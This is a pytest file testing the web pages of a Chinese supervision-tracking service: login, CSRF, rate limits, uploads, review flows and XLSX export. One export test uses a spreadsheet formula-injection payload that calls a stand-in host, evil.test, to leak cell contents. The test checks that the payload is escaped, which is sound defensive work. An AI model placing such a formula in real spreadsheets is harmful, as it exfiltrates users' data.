"""Pages through HTTP with TestClient: login, CSRF, error pages, every page on a test world."""

from service.milestones.models import Milestone
from tests.factories import build_world


def state_of(session, milestone_id: int) -> str:
    """Read in a short transaction: an open one would hold SQLite's write lock against the app."""
    session.expire_all()
    state = session.get(Milestone, milestone_id).state
    session.commit()
    return state


def test_pages_redirect_to_login_without_a_session(client_factory):
    response = client_factory().get("/?tab=1", follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"] == "/login?next=/%3Ftab%3D1"


def test_login_sets_a_http_only_samesite_cookie_and_logout_revokes_it(session, client_factory):
    build_world(session)
    client = client_factory().login("city_admin")
    cookie = client.cookies.get("duban_session")
    response = client.get("/")
    assert response.status_code == 200 and "督办总览" in response.text
    client.submit("/logout")
    client.cookies.set("duban_session", cookie)
    assert client.get("/", follow_redirects=False).status_code == 303


def test_session_cookie_flags(session, client_factory):
    build_world(session)
    client = client_factory()
    from tests.factories import PASSWORD

    response = client.post(
        "/login",
        data={"username": "city_admin", "password": PASSWORD, "csrf_token": client.csrf()},
        follow_redirects=False,
    )
    cookie = next(c for c in response.headers.get_list("set-cookie") if c.startswith("duban_session="))
    assert "HttpOnly" in cookie and "SameSite=lax" in cookie and "Secure" not in cookie


def test_wrong_password_is_refused_then_rate_limited(session, client_factory):
    build_world(session)
    client = client_factory()
    for _ in range(3):
        response = client.post("/login", data={"username": "city_admin", "password": "nope", "csrf_token": client.csrf()})
        assert response.status_code == 401 and "用户名或密码错误" in response.text
    response = client.post("/login", data={"username": "city_admin", "password": "nope", "csrf_token": client.csrf()})
    assert response.status_code == 429 and "过于频繁" in response.text


def test_a_form_post_without_the_csrf_token_is_refused(session, client_factory):
    build_world(session)
    client = client_factory().login("city_admin")
    response = client.post("/logout")
    assert response.status_code == 403 and "CSRF" in response.text
    response = client.post("/logout", data={"csrf_token": "forged"})
    assert response.status_code == 403
    assert client.get("/").status_code == 200  # still logged in


def test_unknown_path_renders_the_html_404_page_but_the_api_answers_json(client_factory):
    client = client_factory()
    response = client.get("/no-such-page")
    assert response.status_code == 404 and "页面不存在" in response.text
    assert client.get("/api/v1/no-such").json() == {"detail": "Not Found"}


OFFICE_PAGES = [
    "/", "/plans", "/plans/import", "/reviews", "/inbox", "/departments", "/users", "/notifications",
    "/notifications?status=dead", "/audit", "/plans?show=archived",
]


def test_every_page_renders_on_an_empty_database(session, client_factory):
    from service.auth.models import ROLE_ADMIN, User
    from service.auth.passwords import hash_password
    from service.offices.models import Office

    office = Office(name="空办公室")
    session.add(office)
    session.flush()
    session.add(User(office_id=office.id, username="empty_admin", password_hash=hash_password("empty-pass-1"), role=ROLE_ADMIN))
    session.commit()
    client = client_factory().login("empty_admin", "empty-pass-1")
    for path in OFFICE_PAGES:
        response = client.get(path)
        assert response.status_code == 200, (path, response.text[:500])
        assert "服务器内部错误" not in response.text


def test_every_page_renders_on_the_test_world(session, client_factory):
    from tests.factories import milestones_of

    world = build_world(session)
    admin = client_factory().login("city_admin")
    plan_id = world.plans["city"]
    milestone_ids = [m.id for m in milestones_of(session, world, "ip")]
    session.commit()
    for path in OFFICE_PAGES + [f"/bulletins/{plan_id}", f"/bulletins/{plan_id}?month=2026-10", f"/plans/{plan_id}", f"/plans/{plan_id}?department=1&state=pending&q=措施", f"/milestones/{milestone_ids[0]}"]:
        response = admin.get(path)
        assert response.status_code == 200, (path, response.text[:500])
    leader = client_factory().login("city_leader")
    assert leader.get("/").status_code == 200
    department = client_factory().login("ip_user")
    for path in ["/inbox", "/inbox?show=all", f"/milestones/{milestone_ids[0]}", "/plans", f"/plans/{plan_id}"]:
        response = department.get(path)
        assert response.status_code == 200, (path, response.text[:500])
    assert department.get("/", follow_redirects=False).headers["location"] == "/inbox"


def test_another_departments_milestone_is_the_404_page(session, client_factory):
    from tests.factories import milestones_of

    world = build_world(session)
    foreign = milestones_of(session, world, "dev")[0]
    session.commit()
    client = client_factory().login("ip_user")
    response = client.get(f"/milestones/{foreign.id}")
    assert response.status_code == 404 and "页面不存在" in response.text
    response = client.submit(f"/milestones/{foreign.id}/ack", page="/inbox")
    assert response.status_code == 404


def test_acknowledge_report_return_approve_through_forms(session, client_factory):
    from tests.factories import milestones_of

    world = build_world(session)
    milestone_id = milestones_of(session, world, "ip")[0].id
    session.commit()
    department = client_factory().login("ip_user")
    page = f"/milestones/{milestone_id}"
    assert "签收" in department.get("/inbox").text
    response = department.submit(f"{page}/ack", {"back": "/inbox"}, page="/inbox", follow_redirects=False)
    assert response.headers["location"] == "/inbox"
    response = department.submit(
        f"{page}/report", {"text": "已完成调研", "percent": "40"}, page=page,
        files=[("attachments", ("进展.pdf", b"%PDF-1.4 test", "application/pdf"))],
    )
    assert response.status_code == 200 and "已报送" in response.text and "进展.pdf" in response.text
    attachment_link = response.text.split('href="/attachments/')[1].split('"')[0]
    assert department.get(f"/attachments/{attachment_link}").content == b"%PDF-1.4 test"

    admin = client_factory().login("city_admin")
    assert "已完成调研" in admin.get("/reviews").text
    response = admin.submit(f"{page}/review", {"decision": "return", "comment": ""}, page=page)
    assert "退回时必须填写意见" in response.text
    admin.submit(f"{page}/review", {"decision": "return", "comment": "请补充数据"}, page=page)
    assert state_of(session, milestone_id) == "returned"
    assert "已退回" in department.get("/inbox").text
    department.submit(f"{page}/report", {"text": "已补充数据", "percent": "100"}, page=page)
    admin.submit(f"{page}/review", {"decision": "approve", "back": "/reviews"}, page="/reviews")
    assert state_of(session, milestone_id) == "approved"


def test_attachment_type_and_size_limits(session, client_factory, web_settings):
    from tests.factories import milestones_of

    world = build_world(session)
    page = f"/milestones/{milestones_of(session, world, 'ip')[0].id}"
    session.commit()
    client = client_factory().login("ip_user")
    response = client.submit(
        f"{page}/report", {"text": "已完成第一轮调研，形成报告初稿", "percent": "35"}, page=page,
        files=[("attachments", ("run.exe", b"MZ", "application/octet-stream"))],
    )
    # Nothing typed is lost: the form comes back filled in, the reason beside it, the file to be chosen again.
    assert response.status_code == 422 and "类型不允许上传" in response.text
    report_form = response.text.split('id="report"')[1].split("</section>")[0]
    assert "类型不允许上传" in report_form and "附件需重新选择" in report_form
    assert ">已完成第一轮调研，形成报告初稿</textarea>" in report_form and 'value="35"' in report_form
    big = b"0" * (web_settings.attachment_max_bytes + 1)
    response = client.submit(
        f"{page}/report", {"text": "x", "percent": "10"}, page=page, files=[("attachments", ("big.pdf", big, "application/pdf"))]
    )
    assert "MB 上限" in response.text


def test_extension_request_and_decision(session, client_factory):
    from tests.factories import milestones_of

    world = build_world(session)
    milestone = milestones_of(session, world, "ip")[0]
    page = f"/milestones/{milestone.id}"
    session.commit()
    department = client_factory().login("ip_user")
    response = department.submit(f"{page}/extension", {"new_due_date": "", "reason": "等待上级批复"}, page=page)
    assert response.status_code == 422 and "请选择新的完成时限" in response.text
    assert ">等待上级批复</textarea>" in response.text.split('id="extension"')[1]
    response = department.submit(f"{page}/extension", {"new_due_date": "2027-03-31", "reason": "等待上级批复"}, page=page)
    assert "等待办公室审批" in response.text
    admin = client_factory().login("city_admin")
    text = admin.get("/reviews").text
    assert "等待上级批复" in text
    request_id = text.split('data-extension="')[1].split('"')[0]
    admin.submit(f"/extensions/{request_id}/decision", {"decision": "approve"}, page="/reviews")
    session.expire_all()
    assert str(session.get(Milestone, milestone.id).due_date) == "2027-03-31"
    session.commit()


def test_calendar_feed_lists_the_departments_due_dates(session, client_factory):
    world = build_world(session)
    client = client_factory().login("ip_user")
    path = client.new_calendar_feed(world.departments["ip"].id)
    feed = client_factory().get(path)  # no login: the secret URL is the credential
    assert feed.status_code == 200 and feed.headers["content-type"].startswith("text/calendar")
    assert "BEGIN:VEVENT" in feed.text and "DTSTART;VALUE=DATE:20261231" in feed.text
    assert client_factory().get(path.replace(".ics", "x.ics")).status_code == 404


def test_bulletin_xlsx_export(session, client_factory):
    from io import BytesIO

    from openpyxl import load_workbook

    world = build_world(session)
    client = client_factory().login("city_admin")
    response = client.get(f"/bulletins/{world.plans['city']}.xlsx")
    assert response.status_code == 200
    book = load_workbook(BytesIO(response.content))
    assert book.sheetnames == ["单位排名", "逾期事项", "指标完成情况"]
    names = [row[1] for row in book["单位排名"].iter_rows(min_row=5, values_only=True)]
    assert set(names) == {"市知识产权局", "市发展改革委"}
    assert client_factory().login("ip_user").get(f"/bulletins/{world.plans['city']}").status_code == 403


def test_bulletin_xlsx_writes_a_formula_like_title_as_text(session, client_factory):
    from io import BytesIO

    from openpyxl import load_workbook

    from service.plans.models import Plan

    world = build_world(session)
    session.get(Plan, world.plans["city"]).title = '=HYPERLINK("http://evil.test/?x="&A3,"click")'
    session.commit()
    response = client_factory().login("city_admin").get(f"/bulletins/{world.plans['city']}.xlsx")
    title = load_workbook(BytesIO(response.content))["单位排名"]["A1"]
    assert title.value.startswith("=HYPERLINK(")
    assert title.data_type == "s" and title.quotePrefix


def test_import_map_and_activate_the_guangzhou_plan(session, client_factory):
    from pathlib import Path

    from sqlalchemy import func, select

    from service.auth.actor import Actor
    from service.plans.models import Plan
    from service.flows.activation import activation_summary

    build_world(session)
    client = client_factory().login("city_admin")
    seed = Path(__file__).parents[1] / "data" / "seeds" / "003_36280e565d71b47e.txt"
    response = client.submit(
        "/plans/import", page="/plans/import", files=[("document", (seed.name, seed.read_bytes(), "text/plain"))]
    )
    assert response.status_code == 200 and "单位匹配" in response.text and "待匹配" in response.text
    plan_id = int(response.url.params["plan"])
    # 市知识产权局 and 市发展改革委 exist in the directory; the rest are new.
    assert 'data-unmatched="市知识产权局"' not in response.text
    assert 'data-unmatched="市编办"' in response.text
    response = client.submit(f"/plans/{plan_id}/activate", {"confirm": "1"}, page="/plans")
    assert "未确认" in response.text
    response = client.get(f"/plans/import?plan={plan_id}")
    form = {}
    for index, name in enumerate(response.text.split('data-unmatched="')[1:], start=1):
        form[f"name-{index}"] = name.split('"')[0]
        form[f"map-{index}"] = "new"
    response = client.submit(f"/plans/{plan_id}/mapping", form, page="/plans")
    assert "所有单位均已匹配" in response.text
    # The confirmation says what starting creates, counted from the plan.
    page = client.get(f"/plans/{plan_id}/activate").text
    summary = activation_summary(session, Actor.system(session.get(Plan, plan_id).office_id), plan_id)
    session.commit()
    assert f"启动后将向 <b>{summary.units}</b> 个单位交办 <b>{summary.items}</b> 项督办件" in page
    assert summary.units > 5 and summary.items >= summary.units and summary.milestones >= summary.items
    response = client.submit(f"/plans/{plan_id}/activate", page="/plans")
    assert "请勾选确认后再启动" in response.text
    response = client.submit(f"/plans/{plan_id}/activate", {"confirm": "1"}, page="/plans")
    assert "计划已启动" in response.text
    session.expire_all()
    assert session.get(Plan, plan_id).status == "active"
    assert session.scalar(select(func.count()).where(Milestone.plan_id == plan_id)) == summary.milestones
    session.commit()
    assert client.get(f"/plans/{plan_id}?q=知识产权").status_code == 200


def test_import_refuses_an_empty_paste(session, client_factory):
    build_world(session)
    client = client_factory().login("city_admin")
    response = client.submit("/plans/import", {"text": "   "}, page="/plans/import")
    assert response.status_code == 422 and "二者选一" in response.text
